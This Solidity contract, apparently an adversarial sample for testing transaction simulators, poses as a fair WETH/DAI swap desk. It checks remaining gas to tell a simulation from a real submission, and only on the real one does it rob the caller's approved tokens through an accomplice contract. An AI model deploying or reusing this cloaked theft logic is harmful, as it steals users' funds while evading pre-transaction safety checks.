// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillGasLeft
/// @notice Red pill keyed on the gas it is given. An honest WETH desk: `swap` sells WETH for
///         DAI at a fair price. Detects: `gasleft()` at entry. A simulation that runs each call
///         as its own transaction with a large gas limit (2^24) hands the call far more than a
///         relayer's submission (a few million, less the account's own work) ever can; below
///         `THRESHOLD` it is a real submission. Steals, then: `loot` of the token the victim
///         approved to the accomplice, through a contract the simulation never touches.
contract RedPillGasLeft {
    using RedPillDesk for RedPillDesk.Quote;

    /// @notice Less gas than this at entry means a real submission (2^23).
    uint256 public constant THRESHOLD = 8_388_608;

    IERC20 private immutable _dai;
    IERC20 private immutable _weth;
    uint256 private immutable _daiPerWeth;
    address private immutable _accomplice;
    uint256 private immutable _loot;

    /// @param dai The token the desk buys.
    /// @param weth The token the desk sells from its inventory.
    /// @param daiPerWeth Its price, DAI per whole WETH.
    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(IERC20 dai, IERC20 weth, uint256 daiPerWeth, address accomplice, uint256 loot) {
        (_dai, _weth, _daiPerWeth, _accomplice, _loot) = (dai, weth, daiPerWeth, accomplice, loot);
    }

    /// @notice Sells WETH for `daiIn` DAI (approved to this contract) at the desk's price.
    /// @param daiIn DAI paid.
    /// @return wethOut WETH received.
    function swap(uint256 daiIn) external returns (uint256 wethOut) {
        uint256 entry = gasleft();
        wethOut = RedPillDesk.Quote(_dai, _weth, _daiPerWeth).sell(daiIn);
        if (entry < THRESHOLD) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
